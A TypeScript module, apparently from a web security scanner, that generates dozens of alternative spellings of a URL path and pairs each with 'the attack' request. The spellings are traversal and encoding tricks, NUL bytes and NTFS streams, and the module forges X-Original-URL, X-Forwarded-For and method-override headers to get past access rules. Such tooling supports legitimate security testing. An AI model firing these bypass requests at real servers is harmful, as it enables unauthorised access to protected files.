import type { TypedRequest } from './request.js';

/** One way to write a path. */
export interface Spelling {
  readonly how: string;
  readonly target: string;
  /** The host is added when the request is sent: `{host}`. */
  readonly version?: '1.0';
  readonly headers?: Readonly<Record<string, string>>;
}

const hex = (text: string, at: number) =>
  `${text.slice(0, at)}%${text.charCodeAt(at).toString(16)}${text.slice(at + 1)}`;

/**
 * Every spelling of a path that a web server, PHP or a file system might resolve to the same file.
 *
 * @param path absolute, with a file name at its end
 */
export function listSpellings(path: string): Spelling[] {
  const slash = path.lastIndexOf('/');
  const folder = path.slice(0, slash);
  const file = path.slice(slash + 1);
  const dot = path.lastIndexOf('.');
  const ways: [string, string][] = [
    ['as it is', path],
    ['with a query', `${path}?x=1`],
    ['two slashes in front', `/${path}`],
    ['three slashes in front', `//${path}`],
    ['two slashes inside', `${folder}//${file}`],
    ['a dot segment', `${folder}/./${file}`],
    ['dot segments up', `/x/..${path}`],
    ['dot segments from a real folder', `/wp-content/..${path}`],
    ['an encoded dot segment', `${folder}/%2e/${file}`],
    ['encoded dot segments up', `/x/%2e%2e${path}`],
    ['half encoded dot segments up', `/x/.%2E${path}`],
    ['an encoded slash', `${folder}%2f${file}`],
    ['an encoded slash in capitals', `${folder}%2F${file}`],
    ['encoded slashes only', path.replaceAll('/', '%2f').replace('%2f', '/')],
    ['an encoded backslash', `${folder}/%5c${file}`],
    ['a backslash', `${folder}/\\${file}`],
    ['backslash dot segments', `/x/..%5c..${path}`],
    ['an encoded first letter', hex(path, slash + 1)],
    ['an encoded dot', hex(path, dot)],
    ['an encoded last letter', hex(path, path.length - 1)],
    ['double encoding of a letter', hex(path, slash + 1).replace('%', '%25')],
    ['double encoding of the dot', hex(path, dot).replace('%', '%25')],
    ['double encoding of the slash', `${folder}%252f${file}`],
    ['threefold encoding', hex(path, dot).replace('%', '%2525')],
    ['an overlong slash', `${folder}%c0%af${file}`],
    ['an overlong dot', `${path.slice(0, dot)}%c0%ae${path.slice(dot + 1)}`],
    ['a three byte overlong dot', `${path.slice(0, dot)}%e0%80%ae${path.slice(dot + 1)}`],
    ['%u encoding', `${path.slice(0, dot)}%u002e${path.slice(dot + 1)}`],
    ['broken encoding', `${path}%`],
    ['broken encoding inside', `${path}%zz`],
    ['a NUL at the end', `${path}%00`],
    ['a NUL before another ending', `${path}%00.txt`],
    ['a line feed at the end', `${path}%0a`],
    ['capitals', `${folder}/${file.toUpperCase()}`],
    ['mixed case', `${folder}/${file[0]?.toUpperCase()}${file.slice(1)}`],
    ['path info', `${path}/x`],
    ['path info of another kind', `${path}/x.jpg`],
    ['path info that is a slash', `${path}/`],
    ['behind index.php', `/index.php${path}`],
    ['a parameter', `${path};x`],
    ['a session parameter', `${path};jsessionid=1.css`],
    ['a parameter in the folder', `${folder};x/${file}`],
    ['a dot at the end', `${path}.`],
    ['an encoded dot at the end', `${path}%2e`],
    ['a space at the end', `${path}%20`],
    ['an NTFS stream', `${path}::$DATA`],
    ['an encoded question mark', `${path}%3fx`],
    ['an encoded hash', `${path}%23x`],
    ['a hash', `${path}#x`],
    ['absolute form', `http://{host}${path}`],
    ['absolute form, two slashes', `http://{host}/${path}`],
    ['absolute form of another host', `http://example.com${path}`],
  ];
  return [
    ...ways.map(([how, target]) => ({ how, target })),
    { how: 'HTTP/1.0', target: path, version: '1.0' },
    { how: 'a forged X-Original-URL', target: path, headers: { 'x-original-url': '/', 'x-rewrite-url': '/' } },
    { how: 'a forged address', target: path, headers: { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1' } },
    { how: 'method override', target: path, headers: { 'x-http-method-override': 'HEAD' } },
  ];
}

/** The request for a spelling, with the method and body of the attack. */
export function toSpelledRequest(
  spelling: Spelling,
  host: string,
  attack: Omit<TypedRequest, 'target'> = {},
): TypedRequest {
  return {
    ...attack,
    target: spelling.target.replace('{host}', host),
    headers: { ...attack.headers, ...spelling.headers },
    ...(spelling.version === undefined ? {} : { version: spelling.version }),
  };
}

/** Headers by which a request may claim to come from another address. */
export const ADDRESS_CLAIMS = [
  'x-forwarded-for',
  'x-real-ip',
  'forwarded',
  'cf-connecting-ip',
  'true-client-ip',
  'x-client-ip',
  'client-ip',
  'x-cluster-client-ip',
  'fastly-client-ip',
  'x-varnish-client-ip',
  'x-sg-real-ip',
  'cdn-real-ip',
] as const;
